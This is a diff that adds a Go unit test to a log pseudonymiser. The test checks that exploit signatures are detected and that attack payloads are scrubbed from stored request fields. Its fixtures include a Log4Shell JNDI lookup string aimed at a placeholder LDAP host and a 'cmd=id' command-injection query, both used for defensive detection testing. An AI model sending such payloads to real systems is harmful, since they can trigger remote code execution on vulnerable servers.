@@ -1,6 +1,7 @@
 package pseudonymize
 
 import (
+	"net/netip"
 	"os"
 	"path/filepath"
 	"strings"
@@ -236,4 +237,37 @@ func BenchmarkSignatureStepBenign(b *testing.B) {
 		i++
 	}
 	b.ReportMetric(float64(threadCPU()-cpu)/float64(b.N), "cpu-ns/op")
+}
+
+// The pseudonymiser stores the signature id and flags of the raw request
+// and scrubs the payload itself: the referrer's exploit is not stored.
+func TestBuildStoresSignature(t *testing.T) {
+	keys := mustKeys(t, 1, 1)
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "local.yaml"), []byte("family: exploit\nsignatures:\n  - id: acme-cve\n    name: ACME\n    in: [target]\n    any: [\"/acme/run.cgi\"]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	b, err := newBuilder(Config{QueryPolicy: QueryRedact, SignatureDirs: []string{dir}}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := event.Raw{ClientIP: netip.MustParseAddr("198.51.100.7"), Method: "GET", Target: "/?q=1", Status: 200,
+		Referrer: "https://x.example/?a=${jndi:ldap://203.0.113.5/a}", UserAgent: firefoxUA}
+	var e event.Event
+	if err := b.build(keys, &raw, "shop.example", &e); err != nil {
+		t.Fatal(err)
+	}
+	if e.Signature != "log4shell" || e.Flags&event.FlagExploit == 0 || strings.Contains(e.Referrer, "jndi") || strings.Contains(e.Referrer, "203.0.113.5") {
+		t.Errorf("signature %q flags %b referrer %q", e.Signature, e.Flags, e.Referrer)
+	}
+	raw.Referrer, raw.Target = "", "/acme/run.cgi?cmd=id"
+	if err := b.build(keys, &raw, "shop.example", &e); err != nil {
+		t.Fatal(err)
+	}
+	if e.Signature != "acme-cve" || e.Query != "cmd=" {
+		t.Errorf("signature from the directory: %q, query %q", e.Signature, e.Query)
+	}
+	if _, err := newBuilder(Config{SignatureDirs: []string{"/nonexistent"}}, nil); err != nil {
+		t.Errorf("a rules dir without signatures: %v", err)
+	}
 }
